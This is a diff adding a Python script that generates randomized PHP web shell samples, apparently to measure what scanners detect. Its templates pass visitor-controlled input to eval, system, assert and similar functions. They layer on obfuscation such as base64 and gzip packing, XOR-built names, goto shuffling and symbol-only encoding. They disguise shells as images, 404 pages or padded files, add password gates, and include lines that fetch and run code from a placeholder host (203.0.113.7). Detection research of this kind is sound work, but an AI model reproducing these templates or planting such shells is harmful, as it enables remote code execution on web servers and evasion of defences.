@@ -1,0 +1,601 @@
+"""Makes inert web shells of every make, to measure what is found. Text only; nothing is run.
+
+What a shell is made of (where the visitor's word comes in, how it is disguised, how it is run, how
+the whole is wrapped and written) is drawn anew for each sample, so a seed nobody has used before
+gives combinations nobody has looked at. No sample of anybody else's is copied.
+
+    python tools/webshell_mutations.py FOLDER [SEED] [COUNT]
+"""
+
+import base64
+import random
+import sys
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+from webshell_mutations_other import OTHER
+
+
+@dataclass(frozen=True, slots=True)
+class Sample:
+    """One made-up shell.
+
+    Attributes:
+        family: what its makers would call the trick. name: of the file. content: its bytes.
+    """
+
+    family: str
+    name: str
+    content: bytes
+
+
+Draw = random.Random
+
+
+def word(draw: Draw, size: int = 0) -> str:
+    """A name for a variable or a parameter."""
+    letters = draw.choice(("abcdefghijklmnop", "I1lO0_", "abcxyz_0189"))
+    size = size or draw.randint(1, 9)
+    return draw.choice("abcdefgxyz_") + "".join(draw.choice(letters) for _ in range(size))
+
+
+def source(draw: Draw) -> str:
+    """An expression whose value the visitor decides."""
+    key = word(draw)
+    quoted = draw.choice((f"'{key}'", f'"{key}"', f"'{key[0]}'.'{key[1:]}'"))
+    array = draw.choice(("_POST", "_GET", "_REQUEST", "_COOKIE"))
+    header = "HTTP_X_" + key.upper()
+    split = draw.randint(1, len(array) - 1)
+    return draw.choice(
+        (
+            f"${array}[{quoted}]",
+            f"${array}[{quoted}]",
+            f"$_SERVER['{header}']",
+            "file_get_contents('php://input')",
+            f"file_get_contents({spelled(draw, 'php://input')})",
+            f"getallheaders()[{quoted}]",
+            f"filter_input(INPUT_POST, {quoted})",
+            f"${{'{array[:split]}'.'{array[split:]}'}}[{quoted}]",
+            f"$GLOBALS['{array}'][{quoted}]",
+            f"$GLOBALS[{spelled(draw, array)}][{quoted}]",
+            f"current(${array})",
+            f"end(${array})",
+            f"array_values(${array})[0]",
+            f"array_pop(${array})",
+            f"implode('', ${array})",
+            f"trim(@${array}[{quoted}])",
+            f"(isset(${array}[{quoted}]) ? ${array}[{quoted}] : '')",
+            f"(${array}[{quoted}] ?? ${array}['z'])",
+            f"key(${array})",
+            f"$_SERVER[{spelled(draw, 'QUERY_STRING')}]",
+        )
+    )
+
+
+def encoded_source(draw: Draw) -> tuple[str, str]:
+    """Statements before, and the visitor's word once it is decoded."""
+    value = source(draw)
+    name = "$" + word(draw)
+    return draw.choice(
+        (
+            ("", value),
+            ("", value),
+            ("", f"base64_decode({value})"),
+            ("", f"strrev({value})"),
+            ("", f"str_rot13({value})"),
+            ("", f"hex2bin({value})"),
+            ("", f"gzinflate(base64_decode({value}))"),
+            ("", f"pack('H*', {value})"),
+            ("", f"urldecode({value})"),
+            ("", f"json_decode({value}, true)['c']"),
+            ("", f"stripslashes({value})"),
+            ("", f"openssl_decrypt({value}, 'AES-128-ECB', 'k3y', OPENSSL_RAW_DATA)"),
+            (f"{name}={value};", name),
+            (f"{name}=array(); {name}[]={value};", f"{name}[0]"),
+            (f"foreach(array({value}) as {name}_v) {name}={name}_v;", name),
+            (
+                f"{name}={value}; for($i=0;$i<strlen({name});$i++)"
+                f" {name}[$i]={name}[$i]^'secret'[$i%6];",
+                name,
+            ),
+            (f"list({name})=explode('|',{value});", name),
+            (f"{name}=''; foreach(str_split({value},2) as $p) {name}.=chr(hexdec($p));", name),
+        )
+    )
+
+
+def _chars(text: str) -> str:
+    return ".".join(f"chr({ord(each)})" for each in text)
+
+
+def _xored(draw: Draw, text: str) -> str:
+    key = "".join(draw.choice("ABCDEFGHJKLMNPQ") for _ in text)
+    mixed = "".join(f"\\x{ord(a) ^ ord(b):02x}" for a, b in zip(text, key, strict=True))
+    return f'("{mixed}"^"{key}")'
+
+
+def _picked(draw: Draw, text: str) -> str:
+    table = sorted(set(text)) + list("qwzk")
+    draw.shuffle(table)
+    name = "$" + word(draw, 3)
+    picks = ".".join(f"{name}[{table.index(each)}]" for each in text)
+    return f"(({name}='{''.join(table)}')?{picks}:'')"
+
+
+def spelled(draw: Draw, text: str) -> str:
+    """An expression whose value is the text, not written out."""
+    cut = draw.randint(1, len(text) - 1)
+    glue = draw.choice(("_q", "Zz", "#"))
+    return draw.choice(
+        (
+            f"'{text[:cut]}'.'{text[cut:]}'",
+            f"strrev('{text[::-1]}')",
+            f"str_rot13('{text.translate(_ROT)}')",
+            f"base64_decode('{base64.b64encode(text.encode()).decode()}')",
+            '"' + "".join(f"\\x{ord(each):02x}" for each in text) + '"',
+            '"' + "".join(f"\\{ord(each):o}" for each in text) + '"',
+            _chars(text),
+            f"implode('', array({','.join(repr(each) for each in text)}))",
+            f"join(['{text[:cut]}','{text[cut:]}'])",
+            _xored(draw, text),
+            _picked(draw, text),
+            f"str_replace('{glue}','','{glue.join(text)}')",
+            f"hex2bin('{text.encode().hex()}')",
+            f"pack('H*','{text.encode().hex()}')",
+            f"sprintf('%s%s','{text[:cut]}','{text[cut:]}')",
+            f"urldecode('{''.join(f'%{ord(each):02x}' for each in text)}')",
+            f"substr('zz{text}yy',2,{len(text)})",
+            f"(function(){{return '{text[:cut]}'.'{text[cut:]}';}})()",
+            f"implode(array_map('chr',[{','.join(str(ord(each)) for each in text)}]))",
+            f"ucfirst('{text[0].swapcase() + text[1:]}')" if text[0].isalpha() else _chars(text),
+            f"strtr('{text.translate(_SHIFT)}','{_TO}','{_FROM}')",
+        )
+    )
+
+
+_FROM = "abcdefghijklmnopqrstuvwxyz"
+_TO = "zyxwvutsrqponmlkjihgfedcba"
+_SHIFT = str.maketrans(_FROM, _TO)
+_ROT = str.maketrans(
+    _FROM + _FROM.upper(), _FROM[13:] + _FROM[:13] + (_FROM[13:] + _FROM[:13]).upper()
+)
+_COMMANDS = ("system", "exec", "shell_exec", "passthru", "popen", "proc_open")
+_TAKING_ONE = ("system", "exec", "shell_exec", "passthru", "assert")
+
+
+def _case(draw: Draw, name: str) -> str:
+    return (
+        "".join(draw.choice((each.upper(), each)) for each in name) if draw.random() < 0.3 else name
+    )
+
+
+def direct(draw: Draw) -> str:
+    """The function is written out."""
+    before, value = encoded_source(draw)
+    name = _case(draw, draw.choice(("eval", "assert", *_COMMANDS)))
+    slash = draw.choice(("", "", "\\")) if name.lower() != "eval" else ""
+    at = (
+        draw.choice(("", "@", "echo ", "print ", "die("))
+        if name.lower() != "eval"
+        else draw.choice(("", "@"))
+    )
+    end = ")" if at == "die(" else ""
+    extra = {"popen": ",'r'", "proc_open": ",[['pipe','r'],['pipe','w']],$p"}.get(name.lower(), "")
+    tail = draw.choice(("", ".' 2>&1'", '." 2>&1"')) if name.lower() in _COMMANDS else ""
+    return f"{before}{at}{slash}{name}({value}{tail}{extra}){end};"
+
+
+def backtick(draw: Draw) -> str:
+    """The shell's own quotes."""
+    name = "$" + word(draw)
+    return f"{name}={source(draw)}; echo `{name}`;"
+
+
+def variable_function(draw: Draw) -> str:
+    """The function's name is disguised and called by a variable."""
+    before, value = encoded_source(draw)
+    name, function = "$" + word(draw), draw.choice(_TAKING_ONE)
+    return draw.choice(
+        (
+            f"{before}{name}={spelled(draw, function)}; @{name}({value});",
+            f"{before}({spelled(draw, function)})({value});",
+            f"{before}{name}=array({spelled(draw, function)}); echo {name}[0]({value});",
+            f"{before}$GLOBALS['{name[1:]}']={spelled(draw, function)}; ${{'{name[1:]}'}}({value});",
+            f"define('{name[1:].upper()}',{spelled(draw, function)}); {before}"
+            f"{name}=constant('{name[1:].upper()}'); {name}({value});",
+            f"{before}${{'{name[1:]}x'}}={spelled(draw, function)}; {name}x({value});",
+        )
+    )
+
+
+def named_by_visitor(draw: Draw) -> str:
+    """The visitor names the function too."""
+    name = "$" + word(draw)
+    one, two = source(draw), source(draw)
+    return draw.choice(
+        (
+            f"{name}={one}; {name}({two});",
+            "$_GET['a']($_POST['b']);",
+            f"call_user_func({one}, {two});",
+            f"array_map({one}, array({two}));",
+            f"{name}={one}; echo {name}({two}, $_GET['c']);",
+            "extract($_REQUEST); $a($b);",
+            f"parse_str($_SERVER['QUERY_STRING'], {name}); {name}['f']({name}['p']);",
+            f"@array_filter([{two}], {one});",
+            f"{name}=$_POST; {name}['x']({name}['y']);",
+            "foreach($_POST as $k=>$v) $k($v);",
+        )
+    )
+
+
+def callback(draw: Draw) -> str:
+    """A function that calls others is handed the disguised one."""
+    before, value = encoded_source(draw)
+    function = draw.choice(("assert", "system", "passthru", "exec"))
+    given = draw.choice((f"'{function}'", spelled(draw, function)))
+    name = "$" + word(draw)
+    return before + draw.choice(
+        (
+            f"call_user_func({given}, {value});",
+            f"call_user_func_array({given}, array({value}));",
+            f"array_map({given}, array({value}));",
+            f"array_filter(array({value}), {given});",
+            f"{name}=array({value}, 1); usort({name}, {given});",
+            f"{name}=array({value}=>1, 'x'=>2); uksort({name}, {given});",
+            f"{name}=[{value}]; array_walk({name}, {given});",
+            f"array_reduce([1], {given}, {value});",
+            f"register_shutdown_function({given}, {value});",
+            f"(new ReflectionFunction({given}))->invoke({value});",
+            f"{name}=new ReflectionFunction({given}); {name}->invokeArgs([{value}]);",
+            f"array_udiff([{value}], [1], {given});",
+            f"iterator_apply(new ArrayIterator([1]), {given}, [{value}]);",
+            f"forward_static_call({given}, {value});",
+            f"{name}=Closure::fromCallable({given}); {name}({value});",
+            f"{name}=fn($x)=>({given})($x); {name}({value});",
+            f"array_walk_recursive([[{value}]], {given});",
+            f"array_diff_ukey([{value}=>1], ['a'=>1], {given});",
+        )
+    )
+
+
+def old_ways(draw: Draw) -> str:
+    """What PHP 5 offered."""
+    before, value = encoded_source(draw)
+    end = draw.choice(("/e", "/ie", "#e", "/isex"))
+    start = "#" if end[0] == "#" else "/"
+    return before + draw.choice(
+        (
+            f"preg_replace('{start}.*{end}', {value}, '');",
+            f"@preg_replace('{start}x{end}', 'eval('.{value}.')', 'x');",
+            f"$f=create_function('', {value}); $f();",
+            f"$f=@create_function('$x', 'return '.{value}.';'); $f(1);",
+            f"mb_ereg_replace('.*', {value}, '', 'e');",
+            f"assert({value});",
+            f"array_map(create_function('', {value}), ['x']);",
+        )
+    )
+
+
+def function_wrapped(draw: Draw) -> str:
+    """A function or a class stands between."""
+    before, value = encoded_source(draw)
+    one, two, three = word(draw, 5), word(draw, 6), word(draw, 4)
+    function = draw.choice(_TAKING_ONE)
+    run = draw.choice((f"{function}($x)", "eval($x)", f"({spelled(draw, function)})($x)"))
+    return draw.choice(
+        (
+            f"function {one}($x){{return {run};}} {before}echo {one}({value});",
+            f"class {two}{{public ${three}; function __construct($a){{$this->{three}=$a;}}"
+            f" function __destruct(){{$x=$this->{three}; {run};}}}} {before}new {two}({value});",
+            f"class {two}{{static function {one}($x){{return {run};}}}} {before}{two}::{one}({value});",
+            f"class {two}{{function {one}($x){{{run};}}}} {before}$o=new {two}; $o->{one}({value});",
+            f"$f=function($x){{return {run};}}; {before}$f({value});",
+            f"{before}$v={value}; $f=function() use ($v){{$x=$v; {run};}}; $f();",
+            f"class {two}{{function __invoke($x){{{run};}}}} {before}$o=new {two}(); $o({value});",
+            f"class {two}{{function __call($n,$a){{$x=$a[0]; {run};}}}} {before}(new {two})->any({value});",
+            f"class {two}{{static $p; static function {one}(){{$x=self::$p; {run};}}}}"
+            f" {before}{two}::$p={value}; {two}::{one}();",
+            f"trait T{two}{{function {one}($x){{{run};}}}} class {two}{{use T{two};}} {before}(new {two})->{one}({value});",
+            f"{before}(new class{{function r($x){{{run};}}}})->r({value});",
+            f"function {one}($x){{return {two}1($x);}} function {two}1($x){{return {run};}} {before}{one}({value});",
+            f"class {two}{{private $q=''; public function __toString(){{$x=$this->q; {run}; return '';}}"
+            f" public function s($v){{$this->q=$v; return $this;}}}} {before}echo (new {two})->s({value});",
+        )
+    )
+
+
+def loading(draw: Draw) -> str:
+    """Code is loaded instead of evaluated."""
+    before, value = encoded_source(draw)
+    name = word(draw, 5)
+    return before + draw.choice(
+        (
+            f"include 'data://text/plain;base64,'.base64_encode({value});",
+            f"include('data:text/plain,'.{value});",
+            f"require {source(draw)};",
+            "include('php://input');",
+            f"@include_once $_FILES['{name}']['tmp_name'];",
+            f"file_put_contents('{name}.php', {value}); include '{name}.php';",
+            f"$t=tempnam('/tmp','x'); file_put_contents($t, {value}); include $t;"
+            f" file_put_contents('/tmp/{name}.php', {value});",
+            f"eval(file_get_contents('http://203.0.113.7/{name}.txt'));",
+            f"include 'http://203.0.113.7/{name}';",
+            "$c=curl_init('http://203.0.113.7/'); curl_setopt($c,19913,1); eval(curl_exec($c));",
+            f"@include '{name}/logo.png';",
+            f'@include "\\x2ftm\\x70/.{name}.ico";',
+        )
+    )
+
+
+def writing(draw: Draw) -> str:
+    """A file is written as the visitor says."""
+    one, two = source(draw), source(draw)
+    return draw.choice(
+        (
+            f"file_put_contents({one}, {two});",
+            f"$h=fopen({one},'w'); fwrite($h,{two}); fclose($h);",
+            f"$n={one}; $d={two}; @file_put_contents($n,base64_decode($d));",
+            f"fputs(fopen('{word(draw, 5)}.php','w'),{two});",
+            "copy($_POST['u'],$_POST['n']);",
+            "file_put_contents($_GET['n'], file_get_contents($_GET['u']));",
+        )
+    )
+
+
+def bare_symbols(draw: Draw) -> str:
+    """Neither letters nor digits: counted up from `Array`."""
+    out = ["$_=[].'';$__=$_['!'=='@'];"]
+    name = draw.choice(("ASSERT", "SYSTEM", "PASSTHRU", "EXEC"))
+    pieces: list[str] = []
+    for position, each in enumerate(name):
+        variable = "$" + "_" * (position + 4)
+        out.append(f"{variable}=$__;" + f"{variable}++;" * (ord(each) - ord("A")))
+        pieces.append(variable)
+    target = "$" + "_" * 20
+    out.append(f"{target}={'.'.join(pieces)};")
+    super_ = "".join("_" if each == "_" else each for each in "_POST")
+    made = []
+    for position, each in enumerate(super_[1:]):
+        variable = "$" + "_" * (position + 30)
+        out.append(f"{variable}=$__;" + f"{variable}++;" * (ord(each) - ord("A")))
+        made.append(variable)
+    out.append(f"$_0='_'.{'.'.join(made)};{target}($$_0[_]);")
+    return "".join(out)
+
+
+PLAIN: dict[str, Callable[[Draw], str]] = {
+    "direct": direct,
+    "backtick": backtick,
+    "variable_function": variable_function,
+    "named_by_visitor": named_by_visitor,
+    "callback": callback,
+    "old_ways": old_ways,
+    "function_wrapped": function_wrapped,
+    "loading": loading,
+    "writing": writing,
+    "bare_symbols": bare_symbols,
+}
+
+
+def packed(draw: Draw, code: str, layers: int) -> str:
+    """The code as a blob that unpacks and runs itself."""
+    for _ in range(layers):
+        raw = code.encode("latin-1", "replace")
+        squeezed = base64.b64encode(_deflate(raw)).decode()
+        plain = base64.b64encode(raw).decode()
+        rotated = base64.b64encode(code.translate(_ROT).encode()).decode()
+        key = draw.randint(1, 255)
+        numbers = ",".join(str(byte ^ key) for byte in raw)
+        name = "$" + word(draw, 4)
+        run = draw.choice(("eval(%s);", "@eval(%s);", "assert(%s);", "eval('?><?php '.%s);"))
+        decoder = draw.choice(
+            (
+                ("", f"base64_decode('{plain}')"),
+                ("", f"gzinflate(base64_decode('{squeezed}'))"),
+                ("", f"str_rot13(base64_decode('{rotated}'))"),
+                ("", f"({spelled(draw, 'base64_decode')})('{plain}')"),
+                (f"{name}={spelled(draw, 'base64_decode')};", f"{name}('{plain}')"),
+                (f"{name}='';foreach([{numbers}] as $b){name}.=chr($b^{key});", name),
+                (f"{name}='{plain[::-1]}';", f"base64_decode(strrev({name}))"),
+                ("", f"hex2bin('{raw.hex()}')"),
+                (f"{name}=<<<'EOT'\n{plain}\nEOT;\n", f"base64_decode({name})"),
+                (
+                    f"function d{name[1:]}($s){{return gzinflate(base64_decode($s));}}",
+                    f"d{name[1:]}('{squeezed}')",
+                ),
+            )
+        )
+        code = decoder[0] + run % decoder[1]
+    return code
+
+
+def _deflate(raw: bytes) -> bytes:
+    return zlib.compress(raw)[2:-4]
+
+
+def gated(draw: Draw, code: str) -> str:
+    """Only for who knows the word."""
+    return draw.choice(
+        (
+            f"if(md5($_POST['p'])=='{draw.randbytes(16).hex()}'){{{code}}}",
+            f"if(isset($_GET['{word(draw)}'])){{ {code} }}",
+            f"if($_SERVER['HTTP_USER_AGENT']!=='{word(draw)}') exit; {code}",
+            f"session_start(); if(!isset($_SESSION['a'])){{$_SESSION['a']=1;}} else {{ {code} }}",
+            f"try{{ {code} }}catch(Throwable $e){{}}",
+            f"switch(1){{case 1: {code} break;}}",
+            f"do{{ {code} }}while(0);",
+            f"error_reporting(0);@set_time_limit(0);ini_set('display_errors',0);{code}",
+        )
+    )
+
+
+def jumping(draw: Draw, code: str) -> str:
+    """Statements out of order, joined by goto."""
+    parts = _statements(code)
+    labels = [f"L{draw.randint(1000, 9999)}{index}" for index in range(len(parts) + 1)]
+    blocks = [
+        f"{labels[index]}: {part} goto {labels[index + 1]};" for index, part in enumerate(parts)
+    ]
+    draw.shuffle(blocks)
+    return f"goto {labels[0]}; {' '.join(blocks)} {labels[-1]}: ;"
+
+
+def _statements(code: str) -> list[str]:
+    """Cut at semicolons outside quotes and brackets."""
+    parts, depth, quote, start = [], 0, "", 0
+    for position, sign in enumerate(code):
+        if quote:
+            if sign == quote and code[position - 1] != "\\":
+                quote = ""
+        elif sign in "'\"`":
+            quote = sign
+        else:
+            depth += (sign in "([{") - (sign in ")]}")
+            if (
+                sign == ";" or (sign == "}" and code[position + 1 : position + 2] == " ")
+            ) and not depth:
+                parts.append(code[start : position + 1])
+                start = position + 1
+    return [*parts, code[start:]] if code[start:].strip() else parts
+
+
+def commented(draw: Draw, code: str) -> str:
+    """Comments between a name and its bracket."""
+    out, quote = [], ""
+    for position, sign in enumerate(code):
+        if quote:
+            if sign == quote and code[position - 1] != "\\":
+                quote = ""
+        elif sign in "'\"`":
+            quote = sign
+        if sign == "(" and not quote and draw.random() < 0.7:
+            out.append(
+                draw.choice(("/**/", "/*" + word(draw) + "*/", " ", "\n", "//" + word(draw) + "\n"))
+            )
+        out.append(sign)
+    return "".join(out)
+
+
+_FILLER = """
+/** Settings of the site. */
+class Options {
+    private $values = array('title' => 'Shop', 'lines' => 20, 'colour' => 'blue');
+    public function get($name) { return isset($this->values[$name]) ? $this->values[$name] : null; }
+    public function all() { ksort($this->values); return $this->values; }
+}
+function format_price($amount, $sign = '$') { return $sign . number_format($amount, 2); }
+$options = new Options();
+if ($options->get('lines') > 10) { $page = max(1, (int) 3); }
+"""
+
+
+def written(draw: Draw, code: str) -> tuple[str, bytes]:
+    """A file of the code: tags, company, and the trick's name."""
+    raw = code.encode("latin-1", "replace")
+    kind = draw.choice(
+        (
+            "tag",
+            "tag",
+            "tag",
+            "short",
+            "script",
+            "echo",
+            "filler",
+            "image",
+            "padded",
+            "html",
+            "crlf",
+        )
+    )
+    if "namespace" in code or "<<<" in code:
+        kind = "tag"
+    if kind == "short":
+        return kind, b"<? " + raw + b" ?>"
+    if kind == "script":
+        return kind, b'<script language="php">' + raw + b"</script>"
+    if kind == "echo" and code.count(";") == 1 and code[:2] not in ("if", "do", "tr", "sw", "go"):
+        return kind, b"<?=" + raw.replace(b"echo ", b"").replace(b"print ", b"").rstrip(
+            b";"
+        ) + b"?>"
+    if kind == "filler":
+        return kind, b"<?php" + _FILLER.encode() * draw.randint(
+            1, 6
+        ) + raw + b"\n" + _FILLER.replace("class Options", "class Choices").replace(
+            "format_price", "show_price"
+        ).encode()
+    if kind == "image":
+        head = draw.choice(
+            (
+                b"GIF89a\x01\x00\x01\x00",
+                b"\xff\xd8\xff\xe0\x00\x10JFIF\0",
+                b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
+            )
+        )
+        return kind, head + draw.randbytes(60).replace(b"<", b".") + b"\n<?php " + raw + b" ?>"
+    if kind == "padded":
+        return kind, b"<?php " + b" " * 3000 + b"/*" + b"x" * 60000 + b"*/" + raw
+    if kind == "html":
+        return (
+            kind,
+            b"<!DOCTYPE html><html><body><h1>404</h1>\n<?php " + raw + b" ?>\n</body></html>",
+        )
+    end = b"\r\n" if kind == "crlf" else b" "
+    return kind, b"<?php" + end + raw
+
+
+def php_sample(draw: Draw, family: str) -> Sample:
+    """One PHP shell of a family."""
+    code = PLAIN[family](draw)
+    tricks = [family]
+    for trick, change, chance in (
+        ("gated", gated, 0.3),
+        ("jumping", jumping, 0.2),
+        ("commented", commented, 0.25),
+    ):
+        if draw.random() < chance and not (trick == "jumping" and "class " in code):
+            code = change(draw, code)
+            tricks.append(trick)
+    if family != "bare_symbols" and draw.random() < 0.15:
+        code = packed(draw, code, draw.randint(1, 3))
+        tricks.append("packed")
+    kind, content = written(draw, code)
+    ending = {"image": draw.choice((".php", ".gif", ".jpg"))}.get(
+        kind, draw.choice((".php", ".phtml", ".inc", ".php5"))
+    )
+    return Sample(family, f"{word(draw, 6)}-{'-'.join((*tricks[1:], kind))}{ending}", content)
+
+
+def samples(seed: int, count: int) -> list[Sample]:
+    """As many samples, of all families in turn."""
+    draw = random.Random(seed)  # noqa: S311 — for variety, not for secrecy
+    families = [*PLAIN, "packed", *OTHER]
+    made: list[Sample] = []
+    for number in range(count):
+        family = families[number % len(families)]
+        if family in OTHER:
+            name, text = OTHER[family](draw)
+            made.append(Sample(family, name, text.encode("utf-8", "surrogateescape")))
+        elif family == "packed":
+            inner = PLAIN[
+                draw.choice(("direct", "variable_function", "callback", "function_wrapped"))
+            ](draw)
+            content = written(draw, packed(draw, inner, draw.randint(1, 5)))[1]
+            made.append(Sample("packed", f"{word(draw, 6)}.php", content))
+        else:
+            made.append(php_sample(draw, family))
+    return made
+
+
+def main() -> None:
+    """Write samples into a folder."""
+    folder = Path(sys.argv[1])
+    seed = int(sys.argv[2]) if len(sys.argv) > 2 else 1
+    for number, each in enumerate(samples(seed, int(sys.argv[3]) if len(sys.argv) > 3 else 300)):
+        (folder / each.family).mkdir(parents=True, exist_ok=True)
+        (folder / each.family / f"{number:04}-{each.name}").write_bytes(each.content)
+
+
+if __name__ == "__main__":
+    main()
